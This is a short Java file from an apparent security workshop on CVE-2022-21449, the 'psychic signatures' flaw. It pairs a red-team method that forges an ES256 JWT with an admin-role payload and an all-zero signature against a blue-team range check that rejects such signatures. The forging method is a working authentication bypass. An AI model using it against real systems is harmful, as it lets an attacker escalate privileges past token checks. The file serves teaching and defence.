package workshop.attacks;

import java.math.BigInteger;
import java.util.Arrays;

/** CVE-2022-21449, "psychic signatures": red team and blue team for ES256 (ATTACK DEMO, loopback only). */
public final class PsychicSignature {

    private PsychicSignature() {
    }

    /** A9 · alice's claims with {@code role: admin}, the original ES256 header, and a signature r = s = 0. */
    public static String forge(String token) {
        return Jwt.parts(token)[0] + "." + Forgery.adminPayload(token) + "." + Jwt.encode(new byte[64]);
    }

    /**
     * A9 · whether an ES256 signature (r || s, 32 bytes each, RFC 7518 3.4) is well-formed for a curve of order
     * {@code n}: 64 bytes, and both r and s in [1, n − 1] (FIPS 186-4 6.4.2, SEC 1 4.1.4 step 1).
     */
    public static boolean inRange(byte[] signature, BigInteger n) {
        if (signature == null || signature.length != 64) {
            return false;
        }
        BigInteger r = new BigInteger(1, Arrays.copyOfRange(signature, 0, 32));
        BigInteger s = new BigInteger(1, Arrays.copyOfRange(signature, 32, 64));
        return r.signum() > 0 && s.signum() > 0 && r.compareTo(n) < 0 && s.compareTo(n) < 0;
    }
}
